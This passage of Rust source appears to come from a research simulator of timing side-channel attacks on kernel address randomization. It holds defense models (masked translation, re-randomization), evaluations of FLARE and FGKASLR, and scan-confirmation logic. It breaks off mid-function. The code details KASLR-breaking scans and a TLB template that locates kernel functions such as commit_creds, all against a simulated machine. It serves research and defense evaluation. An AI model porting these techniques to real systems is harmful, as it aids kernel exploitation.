        let s = Series::from_samples("fig4", &[93, 93, 107, 93, 107]);
        let plot = ascii_plot(&s, 20, 6);
        assert!(plot.contains('*'));
        assert!(plot.contains("93..107"));
        assert_eq!(plot.lines().count(), 7, "title + 6 rows");
    }

    #[test]
    fn ascii_plot_flat_series_does_not_divide_by_zero() {
        let s = Series::from_samples("flat", &[50, 50, 50]);
        let plot = ascii_plot(&s, 10, 3);
        assert!(plot.contains('*'));
    }

    #[test]
    fn ascii_plot_clamped_caps_outliers() {
        let s = Series::from_samples("spiky", &[93, 107, 93, 1800]);
        let plot = ascii_plot_clamped(&s, 20, 6, 130.0);
        assert!(plot.contains("93..130"), "{plot}");
    }

    #[test]
    fn ascii_plot_empty_series() {
        let s = Series {
            label: "empty".into(),
            points: vec![],
        };
        assert_eq!(ascii_plot(&s, 10, 3), "(empty series)\n");
    }
}
