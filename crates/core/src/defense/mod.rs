//! The defense axis — victim-side countermeasures as first-class
//! campaign citizens.
//!
//! §V of the paper evaluates countermeasures as static point checks
//! (FLARE, FGKASLR — now living in [`point_checks`], the same
//! evaluation site). The two strongest defense families from the
//! related work are dynamic, though, and this module models them as
//! *victims*: a [`Defense`] is installed on the machine an attack is
//! about to probe, and every attack × CPU × noise campaign cell can be
//! re-run under it to measure efficacy as the attack-success rate it
//! leaves behind.
//!
//! * [`DefenseKind::None`] — the undefended victim. Installing it does
//!   nothing at all (invariant 12: `Defense::None` is silent), so every
//!   pre-defense golden row is bit-exact by construction.
//! * [`DefenseKind::MaskedTranslation`] — an Oreo-style masked address
//!   space ([`avx_uarch::AddressMask`]): the walked address is an
//!   involutive slot permutation of the architecturally visible one,
//!   decoupling the attacker's timing picture from the real layout.
//! * [`DefenseKind::Rerandomizing`] — live re-randomization
//!   ([`avx_uarch::Rerandomizer`]): the protected image re-slides to a
//!   fresh slot every [`DEFAULT_RERANDOMIZE_PERIOD`] probes *during*
//!   the scan, turning every attack into a race. This is layout drift,
//!   the analogue of [`avx_uarch::NoiseProfile::Drift`]'s noise drift.
//!
//! Installation is per-machine and per-trial: fixtures stay immutable
//! (a re-randomizing victim re-randomizes its copy-on-write clone,
//! never the shared pool — invariants 5 and 11), and the defense's
//! randomness is derived from the trial seed through its own SplitMix64
//! stream, never from the machine's measurement RNG.
//!
//! ```
//! use avx_channel::attacks::campaign::{CampaignConfig, Scenario};
//! use avx_channel::defense::DefenseKind;
//! use avx_uarch::CpuProfile;
//!
//! let config = CampaignConfig::new(2, 0).with_defense(DefenseKind::MaskedTranslation);
//! let row = Scenario::KernelBase.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
//! assert_eq!(row.defense, "masked");
//! assert!(row.accuracy.rate() < 0.5, "the mask decouples the scan: {row}");
//! ```

pub mod point_checks;

pub use point_checks::{evaluate_fgkaslr, evaluate_flare, FgkaslrEval, FlareEval};

use core::fmt;

use avx_os::linux::{
    KASLR_ALIGN, KERNEL_TEXT_REGION_END, KERNEL_TEXT_REGION_START, MODULE_REGION_END,
    MODULE_REGION_START,
};
use avx_os::windows::{WIN_KASLR_ALIGN, WIN_KERNEL_REGION_END, WIN_KERNEL_REGION_START};
use avx_uarch::defense::splitmix64;
use avx_uarch::{AddressMask, Machine, Rerandomizer, VictimDefense};

/// Default probe-count trigger of the re-randomizing victim: 24 probe
/// tiles. Short enough to fire several times inside one 512-slot
/// kernel-base scan (2 probes per slot), so the mid-scan race is the
/// common case, not an edge case.
pub const DEFAULT_RERANDOMIZE_PERIOD: u64 = 384;

/// The defense menu — the fourth campaign axis.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, Default)]
pub enum DefenseKind {
    /// No defense: the bit-exact historical victim.
    #[default]
    None,
    /// Oreo-style masked address space over the victim's randomization
    /// regions.
    MaskedTranslation,
    /// Live layout re-randomization on a probe-count trigger.
    Rerandomizing,
}

impl DefenseKind {
    /// All defenses, grid order.
    pub const ALL: [DefenseKind; 3] = [
        DefenseKind::None,
        DefenseKind::MaskedTranslation,
        DefenseKind::Rerandomizing,
    ];

    /// The row/CLI label.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            DefenseKind::None => "none",
            DefenseKind::MaskedTranslation => "masked",
            DefenseKind::Rerandomizing => "rerandomizing",
        }
    }

    /// Parses a CLI/env name (`--defense <name>` / `AVX_DEFENSE`).
    #[must_use]
    pub fn parse(name: &str) -> Option<DefenseKind> {
        match name {
            "none" | "off" => Some(DefenseKind::None),
            "masked" | "masked-translation" | "oreo" => Some(DefenseKind::MaskedTranslation),
            "rerandomizing" | "rerand" | "moving-target" => Some(DefenseKind::Rerandomizing),
            _ => None,
        }
    }

    /// Installs this defense on `machine` over `regions`, with
    /// randomness derived from `seed`. The single installation
    /// chokepoint every campaign trial and point check goes through.
    pub fn install(self, machine: &mut Machine, regions: &[DefenseRegion], seed: u64) {
        match self {
            DefenseKind::None => NoDefense.install(machine, regions, seed),
            DefenseKind::MaskedTranslation => MaskedTranslation.install(machine, regions, seed),
            DefenseKind::Rerandomizing => Rerandomizing::default().install(machine, regions, seed),
        }
    }
}

impl fmt::Display for DefenseKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// One randomization region a defense protects: where the to-be-hidden
/// image lives and at what slot granularity it randomizes.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct DefenseRegion {
    /// First address of the region.
    pub start: u64,
    /// One past the last address.
    pub end: u64,
    /// Randomization slot size (a power of two; the slot count must be
    /// a power of two for the masked-translation XOR to stay
    /// in-region).
    pub slot_align: u64,
}

impl DefenseRegion {
    /// The Linux kernel-text randomization range (512 × 2 MiB slots).
    #[must_use]
    pub fn linux_kernel_text() -> Self {
        Self {
            start: KERNEL_TEXT_REGION_START,
            end: KERNEL_TEXT_REGION_END,
            slot_align: KASLR_ALIGN,
        }
    }

    /// The Linux module area (16384 × 4 KiB slots).
    #[must_use]
    pub fn linux_modules() -> Self {
        Self {
            start: MODULE_REGION_START,
            end: MODULE_REGION_END,
            slot_align: avx_os::linux::MODULE_ALIGN,
        }
    }

    /// The Windows kernel randomization range (§IV-G's 18-bit region).
    #[must_use]
    pub fn windows_kernel() -> Self {
        Self {
            start: WIN_KERNEL_REGION_START,
            end: WIN_KERNEL_REGION_END,
            slot_align: WIN_KASLR_ALIGN,
        }
    }

    /// A per-region defense seed: the trial seed mixed with the region
    /// base, so multi-region installs draw independent keys.
    #[must_use]
    fn region_seed(&self, seed: u64) -> u64 {
        splitmix64(seed ^ 0xdefe_7a11 ^ self.start)
    }
}

/// A victim-side defense: something installed on the machine before
/// the attack's first probe.
pub trait Defense {
    /// Which menu entry this is.
    fn kind(&self) -> DefenseKind;

    /// Installs the defense on `machine` over `regions`. Must be a
    /// no-op for [`DefenseKind::None`] and must never mutate anything
    /// but the machine itself (fixture pools are shared).
    fn install(&self, machine: &mut Machine, regions: &[DefenseRegion], seed: u64);
}

/// The undefended victim. Installing it is architecturally silent: no
/// machine state changes, no RNG draws, nothing — which is what makes
/// every pre-defense golden row bit-exact by construction.
#[derive(Clone, Copy, Debug, Default)]
pub struct NoDefense;

impl Defense for NoDefense {
    fn kind(&self) -> DefenseKind {
        DefenseKind::None
    }

    fn install(&self, _machine: &mut Machine, _regions: &[DefenseRegion], _seed: u64) {}
}

/// Oreo-style masked translation: one involutive slot permutation per
/// protected region, installed at the machine level so every walk,
/// TLB fill and shadow-index lookup of an attacker-issued address sees
/// the masked view (kernel-side accesses keep the real one).
#[derive(Clone, Copy, Debug, Default)]
pub struct MaskedTranslation;

impl Defense for MaskedTranslation {
    fn kind(&self) -> DefenseKind {
        DefenseKind::MaskedTranslation
    }

    fn install(&self, machine: &mut Machine, regions: &[DefenseRegion], seed: u64) {
        let mut defense = VictimDefense::new();
        for region in regions {
            defense = defense.with_mask(AddressMask::new(
                region.start,
                region.end,
                region.slot_align,
                region.region_seed(seed),
            ));
        }
        if defense.is_active() {
            machine.set_defense(Some(defense));
        }
    }
}

/// Live re-randomization: every `period` executed probes, each
/// protected image re-slides to a fresh random slot and the machine
/// performs the OS's TLB shootdown. Regions that hold no image at
/// install time (e.g. the kernel range of a KPTI victim exposes only
/// the trampoline — which *is* captured — or an empty range) simply
/// contribute nothing.
#[derive(Clone, Copy, Debug)]
pub struct Rerandomizing {
    /// Probe-count trigger period.
    pub period: u64,
}

impl Default for Rerandomizing {
    fn default() -> Self {
        Self {
            period: DEFAULT_RERANDOMIZE_PERIOD,
        }
    }
}

impl Defense for Rerandomizing {
    fn kind(&self) -> DefenseKind {
        DefenseKind::Rerandomizing
    }

    fn install(&self, machine: &mut Machine, regions: &[DefenseRegion], seed: u64) {
        let mut defense = VictimDefense::new();
        for region in regions {
            if let Some(r) = Rerandomizer::capture(
                machine.space(),
                region.start,
                region.end,
                region.slot_align,
                self.period,
                region.region_seed(seed),
            ) {
                defense = defense.with_rerandomizer(r);
            }
        }
        if defense.is_active() {
            machine.set_defense(Some(defense));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use avx_mmu::VirtAddr;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel, OpKind};

    fn machine(seed: u64) -> Machine {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, _) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        m
    }

    #[test]
    fn kind_names_round_trip_through_parse() {
        for kind in DefenseKind::ALL {
            assert_eq!(DefenseKind::parse(kind.name()), Some(kind));
            assert_eq!(kind.to_string(), kind.name());
        }
        assert_eq!(
            DefenseKind::parse("oreo"),
            Some(DefenseKind::MaskedTranslation)
        );
        assert_eq!(
            DefenseKind::parse("moving-target"),
            Some(DefenseKind::Rerandomizing)
        );
        assert_eq!(DefenseKind::parse("bogus"), None);
        assert_eq!(DefenseKind::default(), DefenseKind::None);
    }

    #[test]
    fn none_install_is_architecturally_silent() {
        let mut defended = machine(3);
        DefenseKind::None.install(&mut defended, &[DefenseRegion::linux_kernel_text()], 3);
        assert!(defended.defense().is_none(), "None never installs anything");
        assert_eq!(defended.rerandomizations(), 0);
    }

    #[test]
    fn masked_translation_covers_every_requested_region() {
        let mut m = machine(4);
        DefenseKind::MaskedTranslation.install(
            &mut m,
            &[
                DefenseRegion::linux_kernel_text(),
                DefenseRegion::linux_modules(),
            ],
            4,
        );
        let d = m.defense().expect("mask installed");
        assert_eq!(d.masks.len(), 2);
        let kva = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START + 5 * KASLR_ALIGN);
        let mva = VirtAddr::new_truncate(MODULE_REGION_START + 0x7000);
        assert_ne!(d.masked(kva), kva);
        assert_ne!(d.masked(mva), mva);
        // Distinct per-region keys: the two regions permute differently.
        let k_off = d.masked(kva).as_u64() ^ kva.as_u64();
        let m_off = d.masked(mva).as_u64() ^ mva.as_u64();
        assert_ne!(k_off, m_off, "independent keys per region");
    }

    #[test]
    fn masked_machine_decouples_the_mapped_signal() {
        // The same victim, probed by the same scan: undefended it leaks
        // the true base, masked it leaks only the permuted image (the
        // calibration page sits outside the protected region, so the
        // attacker's threshold is as good as ever — and still loses).
        use crate::attacks::kaslr::KernelBaseFinder;
        use crate::calibrate::Threshold;
        use crate::prober::SimProber;

        let sys = LinuxSystem::build(LinuxConfig::seeded(9));
        let (plain, truth) = sys.machine(CpuProfile::alder_lake_i5_12400f(), 9);
        let (mut masked, _) = sys.machine(CpuProfile::alder_lake_i5_12400f(), 9);
        DefenseKind::MaskedTranslation.install(
            &mut masked,
            &[DefenseRegion::linux_kernel_text()],
            9,
        );

        let mut p = SimProber::new(plain);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        let scan = KernelBaseFinder::new(th).scan(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base), "undefended scan works");

        let mut p = SimProber::new(masked);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        let scan = KernelBaseFinder::new(th).scan(&mut p);
        assert_ne!(
            scan.base,
            Some(truth.kernel_base),
            "masked scan must not recover the true base"
        );
    }

    #[test]
    fn rerandomizing_fires_on_schedule_and_counts_events() {
        let mut m = machine(5);
        Rerandomizing { period: 10 }.install(&mut m, &[DefenseRegion::linux_kernel_text()], 5);
        assert!(m.defense().is_some());
        assert_eq!(m.rerandomizations(), 0);
        let probe_at = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
        for _ in 0..25 {
            let _ = m.probe(OpKind::Load, probe_at);
        }
        assert_eq!(m.rerandomizations(), 2, "25 ops / period 10");
    }

    #[test]
    fn rerandomizing_skips_empty_regions() {
        let mut m = machine(6);
        Rerandomizing::default().install(&mut m, &[DefenseRegion::windows_kernel()], 6);
        assert!(
            m.defense().is_none(),
            "a Linux victim has nothing in the Windows range"
        );
    }

    #[test]
    fn defense_trait_objects_report_their_kind() {
        let menu: [&dyn Defense; 3] = [&NoDefense, &MaskedTranslation, &Rerandomizing::default()];
        let kinds: Vec<DefenseKind> = menu.iter().map(|d| d.kind()).collect();
        assert_eq!(kinds, DefenseKind::ALL);
    }

    #[test]
    fn region_presets_are_power_of_two_sloted() {
        for region in [
            DefenseRegion::linux_kernel_text(),
            DefenseRegion::linux_modules(),
            DefenseRegion::windows_kernel(),
        ] {
            let slots = (region.end - region.start) / region.slot_align;
            assert!(slots.is_power_of_two(), "{region:?}");
            assert!(region.slot_align.is_power_of_two());
        }
    }
}
