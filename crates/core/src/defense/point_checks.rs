//! The §V static point checks — FLARE and FGKASLR — folded into the
//! defense-evaluation site.
//!
//! Unlike the dynamic menu in [`super`], these two defenses change how
//! the victim's layout is *built* (dummy mappings, shuffled
//! functions), so they cannot be installed on an existing machine
//! without violating fixture immutability. They stay what the paper
//! made them — point checks against purpose-built systems — but they
//! live here so there is exactly one defense-evaluation site
//! (invariant 12). `crate::countermeasures` re-exports them for
//! compatibility.
//!
//! * **FLARE** \[5\] maps dummy pages over unmapped kernel ranges so the
//!   page-table attack (P2) sees a uniform picture. The bypass: dummy
//!   translations are never used by the kernel, so they stay TLB-cold;
//!   the TLB attack (P4) still reveals the real image.
//! * **FGKASLR** \[1\] shuffles functions within the kernel text. The
//!   base is still recoverable (the image location does not change) and
//!   a TLB template attack locates the *page* of a target function by
//!   triggering the corresponding syscall.

use core::fmt;

use avx_mmu::VirtAddr;
use avx_os::linux::{
    LinuxConfig, LinuxSystem, KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START,
};
use avx_uarch::CpuProfile;

use crate::calibrate::Threshold;
use crate::primitives::{TlbAttack, TlbState};
use crate::prober::SimProber;

use crate::attacks::kaslr::KernelBaseFinder;

/// Result of attacking a FLARE-hardened kernel.
#[derive(Clone, Debug)]
pub struct FlareEval {
    /// Slots the page-table attack classified as mapped (≈ all 512 on a
    /// FLARE kernel: the defense works against P2).
    pub page_table_mapped_slots: usize,
    /// `true` when the page-table attack alone cannot isolate the image.
    pub page_table_defeated: bool,
    /// Base recovered by the TLB attack.
    pub tlb_base: Option<VirtAddr>,
    /// `true` when the TLB attack recovered the true base — the §V-A
    /// bypass.
    pub tlb_correct: bool,
}

impl fmt::Display for FlareEval {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "FLARE: page-table attack sees {}/512 slots mapped ({}); TLB attack {}",
            self.page_table_mapped_slots,
            if self.page_table_defeated {
                "defeated"
            } else {
                "NOT defeated"
            },
            if self.tlb_correct {
                "bypasses the defense"
            } else {
                "fails"
            }
        )
    }
}

/// Attacks a FLARE-enabled kernel with both primitives (§V-A).
#[must_use]
pub fn evaluate_flare(profile: CpuProfile, seed: u64) -> FlareEval {
    let sys = LinuxSystem::build(LinuxConfig {
        flare: true,
        ..LinuxConfig::seeded(seed)
    });
    let (machine, truth) = sys.into_machine(profile, seed);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

    // 1. Page-table attack: everything looks mapped.
    let scan = KernelBaseFinder::new(th).scan(&mut p);
    let mapped = scan.mapped.iter().filter(|&&m| m).count();
    let page_table_defeated = mapped > (KERNEL_SLOTS as usize * 9) / 10;

    // 2. TLB attack: evict, let the kernel run, probe. Only real
    // kernel pages get re-cached by kernel execution. Against FLARE the
    // nearest dummies still walk with warm paging structures (≈7 cycles
    // above the hit level), so the boundary must hug the hit level —
    // unlike the behaviour spy, whose idle level is a full cold walk.
    let tlb = TlbAttack::with_boundary(th.value + 4.0);
    let start = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
    let kernel_pages: Vec<VirtAddr> = (0..truth.kernel_slots)
        .map(|s| truth.kernel_base.wrapping_add(s * KASLR_ALIGN))
        .collect();
    let mut hits = vec![false; KERNEL_SLOTS as usize];
    for slot in 0..KERNEL_SLOTS {
        let addr = start.wrapping_add(slot * KASLR_ALIGN);
        // Two independent rounds; take the min to reject spikes.
        let mut best = u64::MAX;
        for _ in 0..2 {
            tlb.arm(&mut p, addr);
            // The kernel keeps running between eviction and probe:
            // syscalls touch the real kernel text (ground-truth driven —
            // this is the victim's behaviour, not attacker knowledge).
            for &page in &kernel_pages {
                p.machine_mut().touch_as_kernel(page);
            }
            let (_, cycles) = tlb.observe(&mut p, addr);
            best = best.min(cycles);
        }
        hits[slot as usize] = tlb.classify(best) == TlbState::Hit;
    }
    let tlb_base = hits
        .windows(2)
        .position(|w| w[0] && w[1])
        .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));

    FlareEval {
        page_table_mapped_slots: mapped,
        page_table_defeated,
        tlb_base,
        tlb_correct: tlb_base == Some(truth.kernel_base),
    }
}

/// Result of attacking an FGKASLR kernel.
#[derive(Clone, Debug)]
pub struct FgkaslrEval {
    /// Base recovered by the ordinary scan (FGKASLR does not move the
    /// image, so this still works).
    pub base: Option<VirtAddr>,
    /// `true` when the base matches.
    pub base_correct: bool,
    /// The page located for the target function by the TLB template.
    pub function_page: Option<VirtAddr>,
    /// `true` when it is the page actually hosting the function.
    pub function_page_correct: bool,
}

impl fmt::Display for FgkaslrEval {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "FGKASLR: base {}, function page {}",
            if self.base_correct {
                "recovered"
            } else {
                "lost"
            },
            if self.function_page_correct {
                "located via TLB template"
            } else {
                "not located"
            }
        )
    }
}

/// Attacks an FGKASLR kernel: base scan + per-function TLB template
/// (§V-A, following the template idea of \[20\]).
#[must_use]
pub fn evaluate_fgkaslr(profile: CpuProfile, seed: u64, function: &str) -> FgkaslrEval {
    let sys = LinuxSystem::build(LinuxConfig {
        fgkaslr: true,
        ..LinuxConfig::seeded(seed)
    });
    let config_text_slots = sys.config().text_slots;
    let (machine, truth) = sys.into_machine(profile, seed);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

    let scan = KernelBaseFinder::new(th).scan(&mut p);
    let base_correct = scan.base == Some(truth.kernel_base);

    // TLB template (shared primitive): for each candidate text page,
    // evict it, trigger the syscall that executes `function`, probe.
    // Only the page hosting the function turns hot.
    let template = crate::primitives::TlbTemplateAttack::new(&th);
    let function_addr = truth.function_addr(function);
    let mut function_page = None;
    if let (Some(base), Some(target)) = (scan.base, function_addr) {
        let text_pages = config_text_slots * (KASLR_ALIGN / 4096);
        function_page = template.locate(&mut p, base, text_pages, |p| {
            // Victim syscall: the kernel executes the target function.
            p.machine_mut().touch_as_kernel(target.align_down(4096));
        });
    }
    let function_page_correct = match (function_page, function_addr) {
        (Some(found), Some(truth_addr)) => found == truth_addr.align_down(4096),
        _ => false,
    };

    FgkaslrEval {
        base: scan.base,
        base_correct,
        function_page,
        function_page_correct,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flare_defeats_page_table_but_not_tlb() {
        let eval = evaluate_flare(CpuProfile::alder_lake_i5_12400f(), 3);
        assert!(eval.page_table_defeated, "{eval}");
        assert!(eval.page_table_mapped_slots >= 500);
        assert!(eval.tlb_correct, "{eval}");
    }

    #[test]
    fn fgkaslr_base_and_function_page_recovered() {
        let eval = evaluate_fgkaslr(CpuProfile::alder_lake_i5_12400f(), 4, "commit_creds");
        assert!(eval.base_correct, "{eval}");
        assert!(eval.function_page_correct, "{eval}");
    }

    #[test]
    fn fgkaslr_different_functions_land_on_different_pages() {
        let a = evaluate_fgkaslr(CpuProfile::alder_lake_i5_12400f(), 5, "commit_creds");
        let b = evaluate_fgkaslr(CpuProfile::alder_lake_i5_12400f(), 5, "prepare_kernel_cred");
        assert!(a.function_page_correct && b.function_page_correct);
        assert_ne!(a.function_page, b.function_page);
    }

    /// The migration parity pin: the legacy `crate::countermeasures`
    /// path and the canonical defense-site path are the same functions
    /// and produce identical headline verdicts.
    #[test]
    fn countermeasures_shim_is_parity_with_defense_site() {
        let via_defense = evaluate_flare(CpuProfile::alder_lake_i5_12400f(), 3);
        let via_shim =
            crate::countermeasures::evaluate_flare(CpuProfile::alder_lake_i5_12400f(), 3);
        assert_eq!(
            via_shim.page_table_defeated,
            via_defense.page_table_defeated
        );
        assert_eq!(
            via_shim.page_table_mapped_slots,
            via_defense.page_table_mapped_slots
        );
        assert_eq!(via_shim.tlb_base, via_defense.tlb_base);
        assert_eq!(via_shim.tlb_correct, via_defense.tlb_correct);

        let fg_defense = evaluate_fgkaslr(CpuProfile::alder_lake_i5_12400f(), 4, "commit_creds");
        let fg_shim = crate::countermeasures::evaluate_fgkaslr(
            CpuProfile::alder_lake_i5_12400f(),
            4,
            "commit_creds",
        );
        assert_eq!(fg_shim.base, fg_defense.base);
        assert_eq!(fg_shim.base_correct, fg_defense.base_correct);
        assert_eq!(fg_shim.function_page, fg_defense.function_page);
        assert_eq!(
            fg_shim.function_page_correct,
            fg_defense.function_page_correct
        );
    }
}
