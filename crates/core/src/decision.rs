//! Confirmation decision policies for needle-in-haystack scans.
//!
//! Every §IV scan ends with a *detection rule* that turns a sweep's
//! per-candidate verdicts into one answer: the KPTI trampoline hunt
//! takes the first mapped slot of 512, the Windows region scan takes
//! the first ≥5-slot mapped run of 262144, the user-space window search
//! takes the first non-unmapped page. Those first-wins rules make a
//! single misclassification fatal — one false positive anywhere before
//! the needle selects the wrong slot, one false negative inside the
//! true run misses it entirely — so their accuracy ceiling is the
//! detection rule, not the measurements (the KPTI hunt pins at ~60 %
//! under stationary laptop noise with a *perfect* calibration).
//!
//! NetSpectre's answer, adopted here, is a confirmation protocol: never
//! trust a single classification, re-test candidates until the evidence
//! is decisive. This module is the one place that protocol lives; the
//! attacks opt in by carrying a [`ConfirmConfig`] and stay bit-exact
//! with the historical first-wins rules when it is `None` (the
//! default). Three composable policies:
//!
//! * **Run-length confirmation** — a candidate must classify mapped on
//!   [`ConfirmConfig::revisits`] *consecutive* re-visits before it is
//!   accepted ([`SlotSprt`] tracks the streak).
//! * **Escalated re-test** — re-visits probe with a
//!   [`ConfirmConfig::escalation`]-multiplied budget
//!   ([`Confirmer::new`] widens the adaptive SPRT budget, or the fixed
//!   min-filter width, of the attack it wraps), the single-candidate
//!   analogue of the `max_probes = 16` laptop lever.
//! * **Sequential test over slots** — re-visit verdicts feed a
//!   [`crate::stats::SequentialLlr`] at the *slot* level, mirroring the
//!   per-sample SPRT one layer up: evidence accumulates that *this*
//!   slot is the needle rather than a background false positive, and
//!   the test rejects or confirms as soon as the boundary is crossed.
//!
//! [`RunTracker`] extends the same idea to run-shaped needles (the
//! Windows kernel image): a slot that would break a promising run is
//! re-probed before the run is reset, and a confirmed gap of up to
//! [`ConfirmConfig::gap_tolerance`] slots is tolerated.
//!
//! Confirmation composes with the closed-loop recalibration layer
//! ([`crate::recal`]): a re-test after a drift re-fit is the natural
//! escalation path. The [`Confirmer`]'s own re-visits always run
//! open-loop (single-address sweeps carry no window for the drift
//! monitor), so the driver keeps sole ownership of the refit loop.
//!
//! # Example: two concordant re-visits confirm, two discordant reject
//!
//! ```
//! use avx_channel::decision::{ConfirmConfig, SlotSprt};
//!
//! let mut sprt = SlotSprt::new(ConfirmConfig::default());
//! assert_eq!(sprt.push(true), None, "one re-visit never decides");
//! assert_eq!(sprt.push(true), Some(true), "two concordant re-visits do");
//!
//! let mut sprt = SlotSprt::new(ConfirmConfig::default());
//! sprt.push(false);
//! assert_eq!(sprt.push(false), Some(false), "…and symmetrically reject");
//! ```

use avx_mmu::VirtAddr;

use crate::primitives::PageTableAttack;
use crate::prober::{ProbeStrategy, Prober};
use crate::stats::{SeqDecision, SequentialLlr};

/// Knobs of the confirmation protocol.
///
/// The defaults are tuned so that on a quiet host a true needle
/// confirms in exactly [`ConfirmConfig::revisits`] re-visits while an
/// isolated false positive is rejected just as fast — confirmation is
/// cheap where it is not needed and decisive where it is.
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct ConfirmConfig {
    /// Consecutive mapped re-visits a candidate needs before it is
    /// accepted (the run-length confirmation policy, K).
    pub revisits: u32,
    /// Probe-budget multiplier of the escalated re-test: re-visits
    /// spend this many times the wrapped attack's per-address budget.
    pub escalation: u32,
    /// Hard cap on re-visits per candidate; exhausting it forces the
    /// verdict from the accumulated slot-level evidence.
    pub max_revisits: u32,
    /// Target error rate ε of the slot-level sequential test
    /// (boundaries at `±ln((1−ε)/ε)`). The default makes
    /// [`ConfirmConfig::revisits`] concordant re-visits decisive.
    pub error_rate: f64,
    /// Backstop on candidates confirmed per scan — a scan whose sweep
    /// misclassified half the haystack must not re-test all of it.
    pub max_candidates: u32,
    /// Confirmed-gap slots a [`RunTracker`] tolerates inside a
    /// promising run (after the breaking slot re-tested unmapped).
    pub gap_tolerance: u64,
}

impl Default for ConfirmConfig {
    fn default() -> Self {
        Self {
            revisits: 2,
            escalation: 2,
            max_revisits: 6,
            error_rate: 0.05,
            max_candidates: 32,
            gap_tolerance: 1,
        }
    }
}

/// σ of the slot-level verdict model. Re-visit verdicts are pushed as
/// 0 (mapped) / 1 (unmapped) cycles against hypotheses at those means;
/// the sample-level [`SequentialLlr`] σ floor (0.5) makes each verdict
/// worth one clamped increment, so the boundary arithmetic reduces to
/// counting concordant re-visits.
const SLOT_SIGMA: f64 = 0.5;

/// Slot-level sequential test over re-visit verdicts: the run-length
/// confirmation and the sequential-test-over-slots policies in one
/// accumulator (the escalated re-test is the [`Confirmer`]'s job).
#[derive(Clone, Copy, Debug)]
pub struct SlotSprt {
    llr: SequentialLlr,
    consecutive: u32,
    visits: u32,
    config: ConfirmConfig,
}

impl SlotSprt {
    /// Fresh accumulator for one candidate slot.
    #[must_use]
    pub fn new(config: ConfirmConfig) -> Self {
        Self {
            llr: SequentialLlr::new(0.0, 1.0, SLOT_SIGMA, config.error_rate),
            consecutive: 0,
            visits: 0,
            config,
        }
    }

    /// Feeds one re-visit verdict; returns `Some(confirmed)` once the
    /// test has decided, `None` while more re-visits are needed.
    ///
    /// A candidate confirms when the slot LLR crosses the mapped
    /// boundary *and* the last [`ConfirmConfig::revisits`] verdicts
    /// were consecutively mapped; it is rejected when the LLR crosses
    /// the unmapped boundary. At [`ConfirmConfig::max_revisits`] the
    /// verdict is forced from the evidence sign, like the sample-level
    /// SPRT at budget exhaustion.
    pub fn push(&mut self, mapped: bool) -> Option<bool> {
        self.visits += 1;
        let d = self.llr.push(u64::from(!mapped));
        self.consecutive = if mapped { self.consecutive + 1 } else { 0 };
        match d {
            SeqDecision::Mapped if self.consecutive >= self.config.revisits => Some(true),
            SeqDecision::Unmapped => Some(false),
            _ if self.visits >= self.config.max_revisits.max(1) => {
                Some(self.llr.forced() == SeqDecision::Mapped)
            }
            _ => None,
        }
    }

    /// Re-visits consumed so far.
    #[must_use]
    pub fn visits(&self) -> u32 {
        self.visits
    }

    /// Accumulated slot-level log-likelihood ratio (positive favors
    /// "background false positive").
    #[must_use]
    pub fn llr(&self) -> f64 {
        self.llr.llr()
    }
}

/// Outcome of confirming one candidate slot.
#[derive(Clone, Copy, Debug)]
pub struct Confirmation {
    /// `true` when the candidate survived the confirmation protocol.
    pub confirmed: bool,
    /// Re-visits spent.
    pub visits: u32,
    /// Raw probes the re-visits issued.
    pub probes: u64,
}

/// Outcome of [`Confirmer::first_confirmed`] over an ordered candidate
/// stream.
#[derive(Clone, Copy, Debug)]
pub struct FirstConfirmed {
    /// The first candidate that confirmed, if any.
    pub slot: Option<u64>,
    /// Candidates tested (bounded by [`ConfirmConfig::max_candidates`]).
    pub tested: u32,
    /// Raw probes all re-visits issued.
    pub probes: u64,
}

/// The escalated re-tester: re-visits one candidate address through a
/// budget-multiplied copy of the attack that produced it and feeds the
/// verdicts to a [`SlotSprt`].
#[derive(Clone, Copy, Debug)]
pub struct Confirmer {
    attack: PageTableAttack,
    config: ConfirmConfig,
}

impl Confirmer {
    /// Builds the re-tester from the scan's own attack: same threshold,
    /// op and sampling engine, with the per-address budget multiplied
    /// by [`ConfirmConfig::escalation`]. On the adaptive path the SPRT
    /// `max_probes` budget is widened; on the fixed path the strategy
    /// becomes a min-filter of the escalated width (the min keeps the
    /// warm-up/tile semantics of the fixed pipeline; the slot-level
    /// consecutive requirement compensates its mapped-ward bias).
    /// Re-visits always run open-loop — the recalibration driver, when
    /// configured, keeps sole ownership of the refit loop.
    #[must_use]
    pub fn new(attack: &PageTableAttack, config: ConfirmConfig) -> Self {
        let mut escalated = *attack;
        escalated.recal = None;
        let factor = config.escalation.max(1);
        match escalated.sampler {
            Some(sampler) => {
                let mut adaptive = sampler.config;
                adaptive.max_probes = adaptive.max_probes.saturating_mul(factor).max(1);
                escalated.sampler = Some(sampler.with_config(adaptive));
            }
            None => {
                let samples = match escalated.strategy {
                    ProbeStrategy::Single | ProbeStrategy::SecondOfTwo => 1u32,
